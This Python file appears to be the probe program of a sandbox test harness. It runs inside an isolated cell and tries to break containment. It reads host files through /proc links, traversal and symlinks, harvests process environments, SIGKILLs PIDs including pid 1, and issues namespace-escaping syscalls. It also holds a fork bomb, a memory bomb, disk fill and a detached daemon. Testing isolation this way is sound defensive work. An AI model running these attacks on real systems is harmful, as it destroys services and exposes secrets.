"""The program that the doctor runs in a cell: each function is one attack. It says what it tried, never what held."""

# ruff: noqa: PTH103, PTH115, PTH118, PTH123, PTH207, PTH208, PTH211
# ruff: noqa: SIM105
# pyright: basic, reportOptionalMemberAccess=false

import ctypes
import glob
import os
import platform
import signal
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"


def _each(attempts):
    """What came of each attempt: what it gave, or the name of what it raised."""
    found = []
    for attempt in attempts:
        try:
            found.append(attempt())
        except BaseException as e:
            found.append(f"{type(e).__name__}: {e}")
    return found


def _content(path, size=65536):
    with open(path, "rb") as f:
        return f.read(size)


def read(paths):
    """Files of the machine: by name, past the root by every process's links, and by a symbolic link of its own."""
    ways = list(paths)
    for path in paths:
        ways += [f"/proc/{p}/{d}{path}" for p in ("self", "1") for d in ("root", "cwd")]
        ways.append("/srv/data/" + "../" * 12 + path.lstrip("/"))
        link = f"/srv/data/link{len(ways)}"
        try:
            os.symlink(path, link)
        except OSError:
            pass
        ways.append(link)
    return _each([lambda way=way: _content(way) for way in ways])


def write(folders, name):
    def attempt(folder):
        with open(os.path.join(folder, name), "w") as f:
            f.write("x")
        return "written"

    def below(folder):
        os.makedirs(folder, exist_ok=True)
        return attempt(folder)

    return _each([lambda f=f, a=a: a(f) for f in folders for a in (attempt, below)])


def connect(port, abstract, path):
    def tcp(family, address):
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(0.3)
            s.connect((address, port))
            s.sendall(b"x")
        return "connected"

    def unix(address):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(0.3)
            s.connect(address)
        return "connected"

    return _each(
        [
            lambda: tcp(socket.AF_INET, "127.0.0.1"),
            lambda: tcp(socket.AF_INET, "0.0.0.0"),
            lambda: tcp(socket.AF_INET6, "::1"),
            lambda: unix("\0" + abstract),
            lambda: unix(path),
        ]
    )


def outward(address, port):
    """A network beyond the machine: there is no route to any."""

    def attempt():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect((address, port))
            return "a route"

    return _each([attempt])


def environment():
    ways = [lambda: repr(dict(os.environ)).encode()]
    ways += [lambda p=p: _content(p) for p in glob.glob("/proc/[0-9]*/environ")]
    return _each(ways)


def processes():
    return _each([lambda p=p: _content(p) for p in glob.glob("/proc/[0-9]*/cmdline")])


def descriptors():
    def attempt(fd):
        where = os.readlink(f"/proc/self/fd/{fd}")
        try:
            return [where, os.pread(int(fd), 4096, 0)]
        except OSError:
            return [where, b""]

    ways = [lambda fd=fd: attempt(fd) for fd in os.listdir("/proc/self/fd")]
    return _each([*ways, lambda: os.listdir("/proc/1/fd"), lambda: open("/proc/1/mem", "rb").read(1)])


def signals(pids):
    """SIGKILL to every number up to 400 and those given, in a process of its own, and to pid 1."""
    child = os.fork()
    if child == 0:
        for pid in [*range(2, 400), *pids]:
            if pid not in (os.getpid(), os.getppid()):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        os._exit(0)
    os.waitpid(child, 0)
    return _each([lambda: os.kill(1, signal.SIGKILL), lambda: os.kill(1, signal.SIGSTOP)])


def _call(number, *args):
    got = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
    return "done" if got >= 0 else os.strerror(ctypes.get_errno())


def kernel():
    """System calls that lead past namespaces: "done" where the kernel did what was asked."""
    clone_newuser = 0x10000000
    calls = {
        "unshare(CLONE_NEWUSER)": ((97 if ARM else 272), clone_newuser),
        "unshare(CLONE_NEWNET)": ((97 if ARM else 272), 0x40000000),
        "ptrace(PTRACE_ATTACH, 1)": ((117 if ARM else 101), 16, 1, 0, 0),
        "io_uring_setup": (425, 0, 0),
        "keyctl(KEYCTL_GET_KEYRING_ID)": ((219 if ARM else 250), 0, -3, 1),
        "bpf": ((280 if ARM else 321), 0, 0, 0),
        "perf_event_open": ((241 if ARM else 298), 0, 0, -1, -1, 0),
        "userfaultfd": ((282 if ARM else 323), 1),
        "mount": ((40 if ARM else 165), 0, 0, 0, 0, 0),
        "clone3": (435, 0, 0),
        "pidfd_getfd": (438, 0, 0, 0),
        "setns": ((268 if ARM else 308), 0, 0),
    }
    return {name: _call(*call) for name, call in calls.items()}


def sockets():
    """Families that a network namespace does not hold, or that only widen what can be attacked."""

    def attempt(family, kind):
        socket.socket(family, kind, 0).close()
        return "done"

    names = {"AF_VSOCK": (40, 1), "AF_NETLINK": (16, 3), "AF_PACKET": (17, 3), "AF_ALG": (38, 5), "AF_XDP": (44, 3)}
    return dict(zip(names, _each([lambda n=n: attempt(*n) for n in names.values()]), strict=True))


def status():
    return _content("/proc/self/status").decode()


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def memory_bomb(count, size):
    for _ in range(count):
        if os.fork() == 0:
            try:
                block = bytearray(size)
                for at in range(0, size, 4096):
                    block[at] = 1
            finally:
                time.sleep(30)
    os.wait()
    return "one of them ended"


def disk_fill():
    number = 0
    while True:
        number += 1
        try:
            with open(f"/srv/data/{number}", "wb") as f:
                f.write(bytes(1 << 20))
        except OSError:
            time.sleep(0.01)


def flood():
    while True:
        os.write(1, bytes(1 << 16))


def spin():
    while True:
        pass


def daemon():
    """A process that leaves its session and its parents, and stays."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for name in ("stdout", "stderr"):
                getattr(sys, name).close()
            os.closerange(0, 256)
            while True:
                time.sleep(1)
        os._exit(0)
    return "left"
